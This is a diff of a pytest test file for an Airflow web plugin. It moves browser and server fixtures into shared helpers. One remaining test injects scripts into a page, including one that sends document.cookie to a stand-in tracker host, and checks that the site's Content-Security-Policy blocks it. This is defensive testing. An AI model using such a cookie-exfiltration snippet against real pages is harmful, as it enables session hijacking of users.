@@ -14,94 +14,19 @@ from typing import Any
 
 import pytest
 import uvicorn
+from helpers.airflow_web import DAG, PASSWORDS, RUN, TASK, logged_in, stranger, wait
 from selenium import webdriver
-from selenium.webdriver.chrome.service import Service
-from selenium.webdriver.support.wait import WebDriverWait
-from sqlalchemy import select
 
 from filmpulse.web import waits
 from filmpulse.web.headers import HEADERS, POLICY
 
 pytestmark = pytest.mark.slow
 
-DAG, RUN, TASK = "analyse_backlog", "manual__1", "score"
-PASSWORDS = {"admin": "right-of-admin", "viewer": "right-of-viewer"}
-
-
-@pytest.fixture(scope="module")
-def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
-    """Airflow's whole web server, with the plugin as Airflow loads it; 10 s."""
-    passwords = tmp_path_factory.mktemp("passwords") / "passwords.json"
-    passwords.write_text(json.dumps(PASSWORDS))
-    given = {
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": "admin:admin,viewer:viewer",
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(passwords),
-        "AIRFLOW__API__ENABLE_SWAGGER_UI": "False",
-        "AIRFLOW__API__SECRET_KEY": "k" * 32,
-    }
-    with pytest.MonkeyPatch.context() as patch:
-        for name, value in given.items():
-            patch.setenv(name, value)
-        from airflow.api_fastapi.app import create_app, purge_cached_app
-        from airflow.utils.db import initdb
-        from airflow.utils.session import create_session
-
-        initdb()
-        with create_session() as session:
-            waits.create(session)
-        _add_a_run_that_asks()
-        purge_cached_app()
-        yield create_app()
-        purge_cached_app()
-
-
-def _add_a_run_that_asks() -> None:
-    """Have Airflow know a DAG, and a run of it in which a task waits for a person's answer."""
-    from airflow.dag_processing.dagbag import DagBag, sync_bag_to_db
-    from airflow.models import TaskInstance
-    from airflow.models.dagbundle import DagBundleModel
-    from airflow.models.hitl import HITLDetail
-    from airflow.serialization.serialized_objects import DagSerialization
-    from airflow.utils.session import create_session
-    from airflow.utils.types import DagRunTriggeredByType, DagRunType
-
-    dags = Path(__file__).resolve().parents[3] / "dags"
-    bag = DagBag(dag_folder=str(dags / f"{DAG}.py"), bundle_path=dags)
-    now = datetime.now(UTC)
-    with create_session() as session:
-        session.add(DagBundleModel(name="checkout"))
-        session.flush()
-        sync_bag_to_db(bag, "checkout", None, session=session)
-        DagSerialization.from_dict(DagSerialization.to_dict(bag.dags[DAG])).create_dagrun(
-            run_id=RUN, logical_date=now, data_interval=(now, now), run_after=now,
-            run_type=DagRunType.MANUAL, triggered_by=DagRunTriggeredByType.TEST,
-            state="running", session=session,
-        )  # fmt: skip
-        session.flush()
-        # Airflow's database is one for all tests of a worker, which may have made runs as well.
-        is_this = TaskInstance.run_id == RUN, TaskInstance.task_id == TASK
-        task = session.scalars(select(TaskInstance).where(*is_this)).one()
-        task.state, task.start_date = "deferred", now
-        question = {"options": ["Approve", "Reject"], "subject": "Pay?", "body": "1.20 USD"}
-        session.add(HITLDetail(ti_id=task.id, params={}, assignees=[], **question))
-
 
 @pytest.fixture
 def client(app: Any) -> Any:
     """A stranger at an address of their own."""
-    return _client(app, f"192.0.2.{os.urandom(1)[0]}-{os.urandom(4).hex()}")
-
-
-def _client(app: Any, address: str) -> Any:
-    from starlette.testclient import TestClient
-
-    return TestClient(
-        app,
-        base_url="http://127.0.0.1",
-        client=(address, 50_000),
-        raise_server_exceptions=False,
-        follow_redirects=False,
-    )
+    return stranger(app, f"192.0.2.{os.urandom(1)[0]}-{os.urandom(4).hex()}")
 
 
 class Clock:
@@ -238,7 +163,7 @@ def test_a_wait_is_of_one_name_at_one_address(app: Any, client: Any, clock: Cloc
     _statuses(client, 11)
     viewer = {"username": "viewer", "password": PASSWORDS["viewer"]}
     assert _statuses(client, 1, viewer) == [201]
-    assert _statuses(_client(app, "another address"), 1, RIGHT) == [201]
+    assert _statuses(stranger(app, "another address"), 1, RIGHT) == [201]
     assert _statuses(client, 1, RIGHT) == [429]
 
 
@@ -484,20 +409,6 @@ def test_tasks_own_api_takes_no_persons_token(client: Any, app: Any) -> None:
 
 # --- in a browser --------------------------------------------------------------------------------
 
-_WATCH = """
-window.violations = [];
-document.addEventListener('securitypolicyviolation', e => {
-  violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`);
-});
-window.asking = 0; window.asked = 0;
-const fetched = XMLHttpRequest.prototype.send;
-XMLHttpRequest.prototype.send = function (...args) {
-  window.asking += 1; window.asked += 1;
-  this.addEventListener('loadend', () => { window.asking -= 1; });
-  return fetched.apply(this, args);
-};
-"""
-
 
 @pytest.fixture(scope="module")
 def address(app: Any) -> Iterator[str]:
@@ -521,32 +432,8 @@ def address(app: Any) -> Iterator[str]:
 @pytest.fixture(scope="module")
 def browser(address: str) -> Iterator[webdriver.Chrome]:
     """A real browser, logged in by Airflow's own page, that notes what the policy forbade."""
-    from filmpulse.sources.browser import BROWSER_PATHS, DRIVER_PATHS
-
-    options = webdriver.ChromeOptions()
-    options.binary_location = next(path for path in BROWSER_PATHS if Path(path).exists())
-    for word in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage"):
-        options.add_argument(word)
-    options.add_argument("--window-size=1500,1200")
-    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
-    driver = next(path for path in DRIVER_PATHS if Path(path).exists())
-    chrome = webdriver.Chrome(options=options, service=Service(driver))
-    try:
-        watch = {"source": _WATCH}
-        chrome.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", watch)
-        chrome.get(f"{address}/auth/login")
-        _wait(chrome, "return document.querySelectorAll('input').length == 2")
-        name, password = chrome.find_elements("css selector", "input")
-        name.send_keys("admin")
-        password.send_keys(PASSWORDS["admin"] + "\n")
-        _wait(chrome, "return !location.pathname.startsWith('/auth/')")
+    with logged_in(address, "admin", PASSWORDS["admin"]) as chrome:
         yield chrome
-    finally:
-        chrome.quit()
-
-
-def _wait(chrome: webdriver.Chrome, condition: str, seconds: float = 120) -> None:
-    WebDriverWait(chrome, seconds, 0.2).until(lambda it: it.execute_script(condition))
 
 
 PAGES = {
@@ -570,7 +457,7 @@ def test_the_policy_forbids_nothing_that_airflows_pages_do(
     browser: webdriver.Chrome, address: str, path: str, text: str
 ) -> None:
     browser.get(address + path)
-    _wait(
+    wait(
         browser,
         f"return window.asked > 0 && window.asking === 0 && "
         f"document.body.innerText.includes({json.dumps(text)})",
@@ -584,7 +471,7 @@ def test_the_policy_stops_a_script_that_got_into_a_page(
     browser: webdriver.Chrome, address: str
 ) -> None:
     browser.get(f"{address}/variables")
-    _wait(browser, "return document.body.innerText.includes('Variable')")
+    wait(browser, "return document.body.innerText.includes('Variable')")
     browser.execute_script(
         "const one = document.createElement('script'); one.textContent = 'window.got = 1';"
         "document.body.append(one);"
@@ -592,7 +479,7 @@ def test_the_policy_stops_a_script_that_got_into_a_page(
         "document.body.append(two);"
         "const image = new Image(); image.src = 'https://tracker.example/?' + document.cookie;"
     )
-    _wait(browser, "return window.violations.length >= 3")
+    wait(browser, "return window.violations.length >= 3")
     assert browser.execute_script("return window.got") is None
     kinds = {each.split()[0] for each in browser.execute_script("return window.violations")}
     assert kinds == {"script-src-elem", "img-src"}
